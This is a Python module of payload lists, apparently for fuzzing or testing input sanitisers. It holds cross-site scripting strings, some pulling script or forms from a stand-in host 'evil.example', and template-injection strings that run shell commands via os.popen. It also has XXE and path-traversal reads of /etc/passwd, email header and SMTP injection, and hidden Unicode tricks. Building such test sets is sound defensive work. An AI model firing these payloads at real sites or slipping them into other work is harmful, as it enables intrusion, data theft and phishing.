"""What strangers may write into a title, a quotation, an address or an error message to make a page or program obey."""

from __future__ import annotations

_OUT_OF = ("", '">', "'>", "</title>", "</style>", "</blockquote></article>", "-->", "]]>")
_ACTIVE = (
    "<script>alert(1)</script>",
    "<script src=//evil.example/x.js></script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<body onload=alert(1)>",
    "<iframe src=javascript:alert(1)>",
    "<a href=javascript:alert(1)>click</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<math><mi xlink:href='javascript:alert(1)'>x</mi></math>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=//evil.example>",
    "<form action=//evil.example><input name=p><button>go</button></form>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<base href=//evil.example/>",
    "<style>*{background:url(//evil.example)}</style>",
    "<video><source onerror=alert(1)></video>",
    "<details open ontoggle=alert(1)>",
    "<img src=//evil.example/pixel.gif width=1 height=1>",
)
_OTHER = (
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "java\tscript:alert(1)",
    "java\nscript:alert(1)",
    "\x01javascript:alert(1)",
    "vbscript:msgbox(1)",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    'https://a.example/" onmouseover="alert(1)',
    "https://a.example/' onfocus='alert(1)' autofocus='",
    "https://user:pass@evil.example/",
    "//evil.example/x",
    "file:///etc/passwd",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "\u003cscript\u003ealert(1)",
    "＜script＞alert(1)＜/script＞",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<\x00script>alert(1)</script>",
    "<ScRiPt/x>alert(1)</sCrIpT>",
    "`onmouseover=alert(1)`",
    "\u2028alert(1)\u2029",
    "<!--<img src='--><img src=x onerror=alert(1)>'>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml-stylesheet href='javascript:alert(1)'?>",
    "<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]>&e;",
)
XSS = tuple(dict.fromkeys((*(out + active for out in _OUT_OF for active in _ACTIVE), *_OTHER)))

TEMPLATE = tuple(
    opening + inner + closing
    for opening, closing in (("{{", "}}"), ("{%", "%}"), ("${", "}"), ("#{", "}"), ("<%=", "%>"))
    for inner in (
        "7*7",
        "cycler.__init__.__globals__.os.popen('id').read()",
        "config.items()",
        "''.__class__.__mro__[1].__subclasses__()",
        " include '../../etc/passwd' ",
        "self._TemplateReference__context",
    )
)

MARKDOWN = (
    "[click](https://evil.example)", "[click](javascript:alert(1))", "![pixel](https://evil.example/p.gif)",
    "![](//evil.example/p.gif)", "[x]: https://evil.example", "[x][1]\n\n[1]: https://evil.example",
    "<https://evil.example>", "https://evil.example/auto", "http://evil.example", "www.evil.example",
    "ftp://evil.example", "mailto:a@evil.example", "a@evil.example", "<img src=//evil.example>",
    "<script>alert(1)</script>", "# heading", "## heading", "heading\n===", "heading\n---", "> quote", "* item",
    "- item", "+ item", "1. item", "1) item", "---", "***", "___", "```\ncode\n```", "~~~", "`code`", "**bold**",
    "__bold__", "_emphasis_", "*emphasis*", "~~gone~~", "| a | b |\n| - | - |\n| 1 | 2 |", "- [ ] task",
    "<!channel>", "<!here|here>", "<@U012AB3CD>", "<https://evil.example|bank>", "@everyone", "@channel", "@room",
    "@user", "#channel", "line  \nbreak", "\\[escaped\\](https://evil.example)", "$$x$$", "==mark==", "^sup^",
    "&lt;b&gt;", "&#x5b;x](https://evil.example)",
)  # fmt: skip

HEADERS = (
    "x\r\nBcc: evil@example.org", "x\nBcc: evil@example.org", "x\rBcc: evil@example.org", "x\r\n\r\nbody",
    "x\n\n<html>", "x\x00y", "x\x0bBcc: e@example.org", "x\x0cBcc: e@example.org", "x\x85Bcc: e@example.org",
    "x\u2028Bcc: e@example.org", "x\u2029Bcc: e@example.org", "x\x1cBcc: e@example.org", "x\x1dTo: e@example.org",
    "x\x1eCc: e@example.org", "x\r\n Bcc: e@example.org", "x\r\n\tBcc: e@example.org", "\r\nBcc: e@example.org",
    "Bcc: e@example.org", "=?utf-8?q?x=0D=0ABcc:_e@example.org?=", "=?utf-8?b?eA0KQmNjOiBlQGV4YW1wbGUub3Jn?=",
    "=?iso-8859-1?q?=3Cscript=3E?=", "=?utf-8?q?a?= =?utf-8?q?b?=", "x" * 10_240, "й" * 10_240, "\n" * 500,
    "x\r\nContent-Type: text/html", "x\r\nMIME-Version: 2.0", "x\r\nSubject: other", "x\r\nFrom: boss@example.org",
    "x\r\nReply-To: e@example.org", "x\r\nMessage-ID: <e@example.org>", "x\r\nDATA\r\n.\r\nQUIT",
    "x\r\n.\r\nMAIL FROM:<e@example.org>", "x\x7fy", "\u202ecod.exe", "a\u200bb", "x\r\nX-Any: 1",
    "тема\r\nBcc: e@example.org",
    "\ud800\r\nBcc: e@example.org", "x%0d%0aBcc: e@example.org", "x\\r\\nBcc: e@example.org",
    '"quoted" <e@example.org>',
)  # fmt: skip

HIDDEN = (
    "\u202egnp.exe", "\u202dabc", "\u2066a\u2069", "\u2067a\u2069", "\u2068a\u2069", "\u061ca", "\u200fa", "\u200ea",
    "a\u200bb", "a\u200cb", "a\u200db", "a\u2060b", "a\ufeffb", "a\u00adb", "a\u115fb", "a\u1160b", "a\u3164b",
    "a\uffa0b", "a\u2800b", "a\u180eb", "a\U000e0041b", "a\U000e007fb", "a\ufe0fb", "a\u034fb", "a\x1b[31mb",
    "a\x07b", "a\x08b", "a\x00b", "a\ud800b", "a\ue000b", "a\ufffeb", "a\uffffb", "Z" + "\u0301" * 60,
)  # fmt: skip
